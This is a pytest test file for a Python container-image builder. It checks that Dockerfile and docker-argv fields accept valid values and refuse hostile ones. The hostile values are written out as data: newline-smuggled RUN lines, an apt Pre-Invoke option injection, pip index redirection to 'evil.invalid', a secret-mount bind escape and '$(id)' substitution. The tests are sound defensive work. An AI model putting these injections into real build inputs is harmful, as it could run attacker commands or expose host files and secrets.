"""imaged.spec.checks: every string bound for the Dockerfile or a tool's argv, valid and hostile.

Each row names one field, a value that must pass (and reach the rendered Dockerfile or the
build's argv as SHOWN says) and a hostile one that must be refused when the Image is defined,
with a SpecError naming the image, the layer and the value. The real
engine checks are in tests/test_checks_e2e.py.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from imaged import Image, Secret
from imaged.builders.base import BuildRequest
from imaged.builders.local import DockerCli, build_argv
from imaged.errors import SpecError
from imaged.render.dockerfile import render_dockerfile
from imaged.spec import image as image_module
from imaged.spec.checks import LINE_BREAKS, has_line_break, needs_exec_form

Make = Callable[[str, Path], Image]  # (the value, a folder for the files it reads)
NAME = "app"
BASE = "127.0.0.1:5000/python:3.11-slim-bookworm"
PWN = "\nRUN touch /pwned"


def base() -> Image:
    return Image.from_base(BASE).clone(name=NAME, registry="127.0.0.1:5000")


def script(tmp: Path, deps: list[str], name: str = "job.py") -> Path:
    path = tmp / name
    listed = ", ".join(json.dumps(d) for d in deps)
    path.write_text(f"# /// script\n# dependencies = [{listed}]\n# ///\nprint(1)\n")
    return path


# (make, valid value, hostile value, the image and the layer the error names)
FIELDS = [
    # -- FROM, names, platform (FROM line, docker -t and --platform)
    pytest.param(
        lambda v, root: Image.from_base(v).clone(name=NAME),
        BASE,
        BASE + PWN,
        None,
        "base",
        id="base-ref-break",
    ),
    pytest.param(
        lambda v, root: Image.from_base(v).clone(name=NAME),
        "debian@sha256:" + "a" * 64,
        "--platform=linux/arm64 debian",
        None,
        "base",
        id="base-ref-option",
    ),
    pytest.param(
        lambda v, root: Image.from_base(v).clone(name=NAME),
        "debian:12",
        "debian:12 AS x",
        None,
        "base",
        id="base-ref-space",
    ),
    pytest.param(
        lambda v, root: base().clone(name=v), "my-app", "app" + PWN, "app" + PWN, None, id="name"
    ),
    pytest.param(
        lambda v, root: base().clone(registry=v),
        "reg:5000/team",
        "-evil:5000",
        NAME,
        None,
        id="registry",
    ),
    pytest.param(
        lambda v, root: Image.from_base(BASE, platform=v).clone(name=NAME),
        "linux/arm/v7",
        "linux/amd64,linux/arm64",
        None,
        None,
        id="platform-list",
    ),
    pytest.param(
        lambda v, root: Image.from_base(BASE, platform=v).clone(name=NAME),
        "linux/arm64",
        "linux/arm64\x0b",
        None,
        None,
        id="platform-break",
    ),
    pytest.param(
        lambda v, root: Image.from_dockerfile(root / "Dockerfile", None, v),
        "built",
        "built\x00",
        "built\x00",
        None,
        id="from_dockerfile-name",
    ),
    # -- instruction fields
    pytest.param(
        lambda v, root: base().with_workdir(v),
        "/srv/my app",
        "/app" + PWN,
        NAME,
        "#1 workdir",
        id="workdir",
    ),
    pytest.param(
        lambda v, root: base().with_workdir(v),
        "/app",
        "/app\\",
        NAME,
        "#1 workdir",
        id="workdir-continuation",
    ),
    pytest.param(
        lambda v, root: base().with_workdir(v),
        "/app",
        "/app\u2028RUN x",
        NAME,
        "#1 workdir",
        id="workdir-u2028",
    ),
    pytest.param(
        lambda v, root: base().with_env_vars({v: "1"}),
        "PORT",
        "A" + PWN,
        NAME,
        "#1 env_vars",
        id="env-name",
    ),
    pytest.param(
        lambda v, root: base().with_env_vars({"A": v}),
        'say "hi" $HOME \\',
        "x\x85y",
        NAME,
        "#1 env_vars",
        id="env-value",
    ),
    pytest.param(
        lambda v, root: base().with_source_folder(root / "src", v),
        "/opt/a b",
        "/opt" + PWN,
        NAME,
        "#1 source_folder",
        id="folder-dst",
    ),
    pytest.param(
        lambda v, root: base().with_source_folder(root / v, "/opt"),
        "src",
        "src\nRUN touch pwned",
        NAME,
        "#1 source_folder",
        id="folder-name",
    ),
    pytest.param(
        lambda v, root: base().with_source_file(root / "a.py", v),
        "/etc/app",
        "/etc\r\nRUN x",
        NAME,
        "#1 source_files",
        id="file-dst",
    ),
    pytest.param(
        lambda v, root: base().with_code_bundle(dst=v),
        "/srv",
        "/srv\x0c",
        NAME,
        "#1 code_bundle",
        id="bundle-dst",
    ),
    pytest.param(
        lambda v, root: base().with_commands(v),
        "echo a\necho b",
        "echo \x00",
        NAME,
        "#1 commands",
        id="command-nul",
    ),
    # -- packages and options (apt-get, uv pip install, uv sync, poetry install)
    pytest.param(
        lambda v, root: base().with_apt_packages("curl", v),
        "libssl3=3.0.11-1~deb12u2",
        "-oDPkg::Pre-Invoke::=touch /pwned",
        NAME,
        "#1 apt_packages",
        id="apt-option",
    ),
    pytest.param(
        lambda v, root: base().with_apt_packages(v),
        "jq",
        "jq" + PWN,
        NAME,
        "#1 apt_packages",
        id="apt-break",
    ),
    pytest.param(
        lambda v, root: base().with_pip_packages(v),
        "pkg @ https://files.example.invalid/pkg-1.0.tar.gz",
        "--index-url=http://evil.invalid/simple",
        NAME,
        "#1 pip_packages",
        id="pip-option",
    ),
    pytest.param(
        lambda v, root: base().with_pip_packages(v),
        "flask[async]>=2,<4",
        " -e .",
        NAME,
        "#1 pip_packages",
        id="pip-spaced-option",
    ),
    pytest.param(
        lambda v, root: base().with_pip_packages(v),
        "tomli",
        "tomli\u2029",
        NAME,
        "#1 pip_packages",
        id="pip-break",
    ),
    pytest.param(
        lambda v, root: base().with_pip_packages("x", index_url=v),
        "https://pypi.internal/simple",
        "--trusted-host=evil",
        NAME,
        "#1 pip_packages",
        id="index-url",
    ),
    pytest.param(
        lambda v, root: base().with_pip_packages("x", extra_index_urls=[v]),
        "https://extra/simple",
        "https://extra/simple" + PWN,
        NAME,
        "#1 pip_packages",
        id="extra-index-url",
    ),
    pytest.param(
        lambda v, root: base().with_pip_packages("x", extra_args=[v]),
        "--no-build-isolation",
        "--upgrade" + PWN,
        NAME,
        "#1 pip_packages",
        id="pip-extra-args",
    ),
    pytest.param(
        lambda v, root: base().with_requirements(root / "requirements.txt", extra_args=[v]),
        "--no-deps",
        "--no-deps\x1e",
        NAME,
        "#1 requirements",
        id="requirements-extra-args",
    ),
    pytest.param(
        lambda v, root: base().with_uv_project(root / "pyproject.toml", index_url=v),
        "https://pypi.internal/simple",
        "-x",
        NAME,
        "#1 uv_project",
        id="uv-project-index-url",
    ),
    pytest.param(
        lambda v, root: base().with_uv_project(root / "pyproject.toml", extra_args=[v]),
        "--frozen",
        "--frozen\r",
        NAME,
        "#1 uv_project",
        id="uv-project-extra-args",
    ),
    pytest.param(
        lambda v, root: base().with_poetry_project(root / "pyproject.toml", extra_args=[v]),
        "--sync",
        "--sync" + PWN,
        NAME,
        "#1 poetry_project",
        id="poetry-extra-args",
    ),
    # -- secrets (a --mount= list and a shell line)
    pytest.param(
        lambda v, root: base().with_apt_packages("x", secret_mounts=Secret("t", mount=v)),
        "/run/secrets/t.1",
        "/run/t,type=bind,source=/",
        NAME,
        "#1 apt_packages",
        id="secret-mount-comma",
    ),
    pytest.param(
        lambda v, root: base().with_commands("true", secret_mounts=Secret("t", mount=v)),
        "/run/t",
        "/run/t$(id)",
        NAME,
        "#1 commands",
        id="secret-mount-shell",
    ),
    pytest.param(
        lambda v, root: base().with_pip_packages("x", secret_mounts=Secret("t", mount=v)),
        "/run/t",
        "/run/t" + PWN,
        NAME,
        "#1 pip_packages",
        id="secret-mount-break",
    ),
]


# Each valid value as it must reach the Dockerfile or the build's argv (``-t``, ``--platform``).
SHOWN = {
    "base-ref-break": f"FROM {BASE}\n",
    "base-ref-option": "FROM debian@sha256:" + "a" * 64 + "\n",
    "base-ref-space": "FROM debian:12\n",
    "name": "-t 127.0.0.1:5000/my-app:",
    "registry": "-t reg:5000/team/app:",
    "platform-list": "--platform linux/arm/v7 ",
    "platform-break": "--platform linux/arm64 ",
    "from_dockerfile-name": "-t built:",
    "workdir": "WORKDIR /srv/my app\n",
    "workdir-continuation": "WORKDIR /app\n",
    "workdir-u2028": "WORKDIR /app\n",
    "env-name": 'ENV PORT="1"\n',
    "env-value": r'ENV A="say \"hi\" \$HOME \\"' + "\n",
    "folder-dst": 'COPY ["layers/0/", "/opt/a b/src/"]\n',
    "folder-name": "COPY layers/0/ /opt/src/\n",
    "file-dst": "COPY layers/0/ /etc/app/\n",
    "bundle-dst": "COPY layers/0/ /srv/\n",
    "command-nul": 'RUN ["/bin/sh", "-c", "echo a\\necho b"]\n',
    "apt-option": "--no-install-recommends -- curl 'libssl3=3.0.11-1~deb12u2'\n",
    "apt-break": "--no-install-recommends -- jq\n",
    "pip-option": "uv pip install -- 'pkg @ https://files.example.invalid/pkg-1.0.tar.gz'\n",
    "pip-spaced-option": "uv pip install -- 'flask[async]>=2,<4'\n",
    "pip-break": "uv pip install -- tomli\n",
    "index-url": "uv pip install --index-url https://pypi.internal/simple -- x\n",
    "extra-index-url": "uv pip install --extra-index-url https://extra/simple -- x\n",
    "pip-extra-args": "uv pip install --no-build-isolation -- x\n",
    "requirements-extra-args": "uv pip install --no-deps -r /tmp/imaged-inputs/0/requirements.txt\n",
    "uv-project-index-url": "--no-install-project --index-url https://pypi.internal/simple\n",
    "uv-project-extra-args": "--no-install-project --frozen\n",
    "poetry-extra-args": "--no-root --no-ansi --sync\n",
    "secret-mount-comma": "--mount=type=secret,id=t,target=/run/secrets/t.1 \\\n",
    "secret-mount-shell": "--mount=type=secret,id=t,target=/run/t \\\n",
    "secret-mount-break": "--mount=type=secret,id=t,target=/run/t \\\n",
}


def project(root: Path) -> Path:
    """The files the rows read: a folder, a file, requirements, projects, a Dockerfile."""
    files = {
        "src/m.py": "X = 1\n",
        "a.py": "A = 1\n",
        "requirements.txt": "tomli\n",
        "pyproject.toml": '[project]\nname = "p"\nversion = "0"\n',
        "uv.lock": "version = 1\n",
        "poetry.lock": "",
        "Dockerfile": "FROM scratch\n",
    }
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def rendered_and_argv(image: Image) -> str:
    """The Dockerfile, then the docker build argv (a classic CLI, no buildx) joined by spaces."""
    request = BuildRequest(
        image_name=image.name or "",
        context_dir=Path("ctx"),
        dockerfile=Path("Dockerfile"),
        tags=(image.uri,),
        platforms=image.platform,
        push=False,
    )
    argv = build_argv(DockerCli("docker", "20.10.24", buildx=False), request, secret_files={})
    return render_dockerfile(image).dockerfile + " ".join(argv) + " "


def test_every_row_says_how_its_valid_value_is_shown() -> None:
    assert set(SHOWN) == {row.id for row in FIELDS}


@pytest.mark.parametrize(("make", "valid", "hostile", "image", "layer"), FIELDS)
def test_valid_value_reaches_the_dockerfile_or_argv_as_written(
    make: Make,
    valid: str,
    hostile: str,
    image: str | None,
    layer: str | None,
    tmp_path: Path,
    request: pytest.FixtureRequest,
) -> None:
    shown = SHOWN[request.node.callspec.id]
    assert shown in rendered_and_argv(make(valid, project(tmp_path)))


@pytest.mark.parametrize(("make", "valid", "hostile", "image", "layer"), FIELDS)
def test_hostile_value_refused_naming_image_layer_and_value(
    make: Make, valid: str, hostile: str, image: str | None, layer: str | None, tmp_path: Path
) -> None:
    with pytest.raises(SpecError) as info:
        make(hostile, tmp_path)
    assert (info.value.image, info.value.layer) == (image, layer)
    assert repr(hostile) in str(info.value)
    assert "\n" not in str(info.value), "the message is one line: the value is shown escaped"


@pytest.mark.parametrize("char", list(LINE_BREAKS))
def test_every_line_separator_and_nul_is_refused(char: str) -> None:
    assert has_line_break(f"a{char}b")
    with pytest.raises(SpecError, match="line break or NUL"):
        base().with_workdir(f"/a{char}b")


def test_line_breaks_cover_what_python_splits_lines_on() -> None:
    splitters = [chr(c) for c in range(0x3000) if len(f"a{chr(c)}b".splitlines()) > 1]
    assert set(splitters) <= set(LINE_BREAKS)


def test_debian_base_from_settings_is_checked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("IMAGED_DEBIAN_BASE", "reg/python:{major}.{minor}" + PWN)
    with pytest.raises(SpecError) as info:
        Image.from_debian_base(python_version=(3, 11), name=NAME)
    assert (info.value.image, info.value.layer) == (NAME, "base")


@pytest.mark.parametrize(
    "deps",
    [
        pytest.param(["--index-url=http://evil.invalid/simple"], id="option"),
        pytest.param(["rich\nRUN touch /pwned"], id="break"),
    ],
)
def test_script_dependencies_refused_at_definition(tmp_path: Path, deps: list[str]) -> None:
    path = script(tmp_path, deps)
    with pytest.raises(SpecError) as info:
        Image.from_uv_script(path, name=NAME)
    assert (info.value.image, info.value.layer) == (NAME, "#1 uv_script")
    assert repr(deps[0]) in str(info.value)


def test_script_dependency_edited_after_definition_refused_at_render(tmp_path: Path) -> None:
    path = script(tmp_path, ["rich"])
    image = Image.from_uv_script(path, name=NAME)
    script(tmp_path, ["-e", "."])
    with pytest.raises(SpecError, match="script dependency '-e'") as info:
        render_dockerfile(image)
    assert info.value.layer == "#1 uv_script"


def test_script_name_reaches_a_comment_line_and_is_checked(tmp_path: Path) -> None:
    path = script(tmp_path, [], name="s.py\nRUN touch pwned #")
    with pytest.raises(SpecError, match="script name") as info:
        Image.from_uv_script(path, name=NAME)
    assert info.value.layer == "#1 uv_script"


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(lambda: base().with_workdir("/app" + PWN), id="workdir"),
        pytest.param(lambda: Image.from_base(BASE + PWN).clone(name=NAME), id="base-ref"),
        pytest.param(lambda: base().with_apt_packages("-oDPkg::Pre-Invoke::=id"), id="apt"),
        pytest.param(lambda: base().with_pip_packages("--index-url=http://e.invalid"), id="pip"),
    ],
)
def test_render_refuses_what_slipped_past_definition(
    monkeypatch: pytest.MonkeyPatch, payload: Callable[[], Image]
) -> None:
    """The backstop: with the definition-time check switched off, rendering still refuses."""
    monkeypatch.setattr(image_module, "check_image", lambda image: None)
    image = payload()
    with pytest.raises(SpecError, match=r"line break|starts with '-'"):
        render_dockerfile(image)


def test_copied_file_names_stay_out_of_the_dockerfile(tmp_path: Path) -> None:
    """A file's own name is a context path, never rendered: an odd name is not refused."""
    odd = tmp_path / "a\nRUN touch pwned"
    odd.write_text("x")
    rendered = render_dockerfile(base().with_source_file(odd, "/etc/app"))
    assert "pwned" not in rendered.dockerfile
    assert rendered.listing() == ["layers/0/a\nRUN touch pwned"]


def test_from_json_is_checked() -> None:
    data = base().with_workdir("/app").to_json()
    data["layers"][0]["path"] = "/app" + PWN
    with pytest.raises(SpecError, match="workdir") as info:
        Image.from_json(data)
    assert (info.value.image, info.value.layer) == (NAME, "#1 workdir")


# -- rendering: '--' before operands; shell commands stay one instruction


def test_packages_follow_a_double_dash() -> None:
    image = base().with_apt_packages("jq").with_pip_packages("tomli", extra_args=["--upgrade"])
    text = render_dockerfile(image).dockerfile
    assert "--no-install-recommends -- jq\n" in text
    assert "/opt/venv/bin/uv pip install --upgrade -- tomli\n" in text


@pytest.mark.parametrize(
    ("command", "exec_form"),
    [
        pytest.param("echo one", False, id="plain"),
        pytest.param("echo a\necho b", True, id="newline"),
        pytest.param("echo a\u2028echo b", True, id="u2028"),
        pytest.param("echo a\x0bb", True, id="vt"),
        pytest.param("echo trailing \\", True, id="continuation"),
    ],
)
def test_commands_render_as_one_instruction(command: str, exec_form: bool) -> None:
    assert needs_exec_form(command) == exec_form
    text = render_dockerfile(base().with_commands(command).with_workdir("/w")).dockerfile
    lines = text.split("\n")  # the parser's own line split (bufio, on \n only)
    assert lines[1] == (
        "RUN " + json.dumps(["/bin/sh", "-c", command]) if exec_form else f"RUN {command}"
    )
    assert lines[2] == "WORKDIR /w"


def test_the_definition_check_is_cheap() -> None:
    """Each with_* re-checks the whole image; a 200-layer image is still made fast."""
    import time

    started = time.perf_counter()
    image = base()
    for n in range(200):
        image = image.with_env_vars({f"V{n}": "x"})
    assert time.perf_counter() - started < 2.0
